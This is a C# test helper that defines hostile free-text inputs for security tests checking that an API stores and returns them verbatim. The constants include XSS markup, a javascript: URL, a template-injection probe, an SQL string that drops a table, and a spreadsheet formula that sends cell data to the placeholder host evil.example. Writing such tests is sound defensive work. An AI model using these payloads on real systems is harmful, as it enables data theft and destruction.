using System.Text.Json;

namespace Triage.Tests.Security;

/// <summary>
/// Text an attacker would type into a free-text field: markup that runs script if it is ever rendered as HTML
/// (each element carries <c>data-hostile</c>, so a page can be searched for one that got through), a script URL,
/// a spreadsheet formula, a template expression and SQL. Stored and shown, each must stay exactly these characters.
/// </summary>
public static class HostilePayloads
{
    public const string MarkerAttribute = "data-hostile";
    public const string Img = "<img src=x onerror=alert(1) data-hostile=\"img\">";
    public const string Svg = "\"><svg onload=alert(1) data-hostile=\"svg\">";
    public const string Script = "<script data-hostile=\"script\">alert(1)</script>";
    public const string JavaScriptUrl = "javascript:alert(1)";
    public const string Formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
    public const string Template = "{{7*7}}";
    public const string Sql = "'; DROP TABLE reports; --";

    public static readonly IReadOnlyList<string> All = [Img, Svg, Script, JavaScriptUrl, Formula, Template, Sql];

    /// <summary>All of them in one text; the markup comes first so that a case title, cut from the text, carries it too.</summary>
    public static readonly string Text = string.Join(" ", [Img, Svg, Script, Template, Sql, JavaScriptUrl, Formula]);

    /// <summary>For names, which are at most 200 characters.</summary>
    public static readonly string Name = string.Join(" ", [Img, Svg, Template, Sql]);

    /// <summary>A text a spreadsheet would take for a formula: it starts with '='.</summary>
    public static readonly string FormulaFirst = string.Join(" ", [Formula, Script, Sql]);

    /// <summary>Every string value anywhere in a JSON document, for "the API gave it back verbatim".</summary>
    public static List<string> Strings(JsonElement element)
    {
        var found = new List<string>();
        Walk(element);
        return found;

        void Walk(JsonElement e)
        {
            switch (e.ValueKind)
            {
                case JsonValueKind.String: found.Add(e.GetString()!); break;
                case JsonValueKind.Array: foreach (var item in e.EnumerateArray()) Walk(item); break;
                case JsonValueKind.Object: foreach (var property in e.EnumerateObject()) Walk(property.Value); break;
            }
        }
    }
}
